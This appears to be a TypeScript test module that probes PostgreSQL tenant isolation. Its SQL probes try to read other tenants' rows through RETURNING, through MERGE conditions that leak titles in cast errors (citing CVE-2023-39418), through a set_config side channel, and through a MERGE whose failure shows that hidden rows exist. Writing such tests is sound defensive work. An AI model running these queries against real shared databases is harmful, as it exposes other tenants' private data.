import { literal } from '../connection.ts'
import { groundRow, type Side } from '../rehearsal/side.ts'
import { attack, must, type PostgresAttack } from './postgres-attack.ts'
import { sight } from './sight.ts'

const MERGE_VERSION_MIN = 150000
const MERGE_RETURNING_VERSION_MIN = 170000
const RETURNING_OLD_VERSION_MIN = 180000

/** The target's title, and NULL for everybody else's rows: those would be quoted first. */
const title = ({ key }: Side) => `(case when t.tenant_id = ${literal(key)} then t.title end)`

/** Statements that write, tried for what they give back. */
export const RETURNING: readonly PostgresAttack[] = [
  sight(
    {
      id: 'pg-returning',
      title: 'RETURNING of INSERT, UPDATE and data-modifying CTEs',
      kind: 'read',
      references: ['PG-13'],
    },
    () => [
      'update ground.note set amount = amount returning title, body',
      'update ground.note set amount = 0 where true returning (select string_agg(m.title, $$,$$) from ground.note m)',
      "insert into ground.note (title) values ('r') returning (select string_agg(m.title, $$,$$) from ground.note m)",
      'with x as (update ground.note set amount = 1 returning title) select * from x',
      'update ground.reply r set body = n.title from ground.note n returning r.body',
      'delete from ground.note returning title',
      'update ground.event set payload = payload returning payload',
    ],
  ),
  sight(
    {
      id: 'pg-returning-old-new',
      title: 'RETURNING of the row before and after (older servers: of the joined row)',
      kind: 'read',
      references: ['PG-61'],
    },
    (_target, _self, { version }) =>
      version >= RETURNING_OLD_VERSION_MIN
        ? [
            'update ground.note set amount = amount returning old.title, new.title',
            'update ground.reply set body = body returning old.body, new.body',
            'update ground.note set amount = amount returning with (old as o, new as n) o.body, n.body',
            "insert into ground.note (title) values ('r') on conflict (tenant_id, title) do update set amount = 1 returning old.title, new.title",
          ]
        : ['update ground.reply n set body = o.body from ground.reply o returning o.body, n.body'],
  ),
  sight(
    {
      id: 'pg-merge-returning',
      title: 'MERGE with RETURNING, or with a condition that quotes the row',
      kind: 'read',
      references: ['PG-61', 'CVE-2023-39418'],
    },
    (target, _self, { version }) => [
      ...(version >= MERGE_VERSION_MIN
        ? [
            `merge into ground.note t using (values (1)) v on ${title(target)}::int > 0 when matched then update set amount = 1`,
            `merge into ground.note t using (values (1)) v on true when matched and ${title(target)}::int > 0 then update set amount = 1`,
            `merge into ground.note t using (values (1)) v on true when matched and set_config('my.sight', coalesce(current_setting('my.sight', true), '') || t.title, false) is null then delete`,
            "select current_setting('my.sight', true)",
          ]
        : [`update ground.note t set amount = 1 where ${title(target)}::int > 0`]),
      ...(version >= MERGE_RETURNING_VERSION_MIN
        ? [
            'merge into ground.note t using (values (1)) v on t.amount >= 0 when matched then update set amount = 1 returning t.title',
          ]
        : []),
    ],
  ),
  attack(
    {
      id: 'pg-merge-presence',
      title: 'MERGE that names no column of its target: it fails on rows that it may not see',
      kind: 'existence',
      references: ['PG-61'],
      limits: {
        pooled:
          'A MERGE that reads no column of a shared table fails when other tenants have rows in it: it tells that there are some, never which or how many; a place of the tenant\u2019s own has no other rows.',
      },
    },
    {
      async owner({ asVictim, version, victim }) {
        const session = await asVictim()
        const id = literal(String(groundRow(victim, 'reply')['id']))
        await session.run('begin')
        const { count } = await session.run(
          version >= MERGE_VERSION_MIN
            ? `merge into ground.reply t using (values (1)) v on t.id = ${id} when matched then update set body = 'mine'`
            : `update ground.reply set body = 'mine' where id = ${id}`,
        )
        await session.run('rollback')
        must(count === 1, 'merge into its own row')
        return 'the owner merged into its own row (and rolled back)'
      },
      async attempt({ asAttacker, version }) {
        if (version < MERGE_VERSION_MIN) return { crossed: false, met: 'this server has no MERGE' }
        const session = await asAttacker()
        const merge = async (condition: string) => {
          await session.run('begin')
          const { code } = await session.run(
            `merge into ground.reply t using (values (1)) v on ${condition} when matched then update set body = 'mine'`,
          )
          await session.run('rollback')
          return code ?? 'ran'
        }
        const blind = await merge('true')
        const seeing = await merge('t.body is not null')
        const met = `reading no column: ${blind}; reading one: ${seeing}`
        return { crossed: blind !== seeing, met }
      },
    },
  ),
]
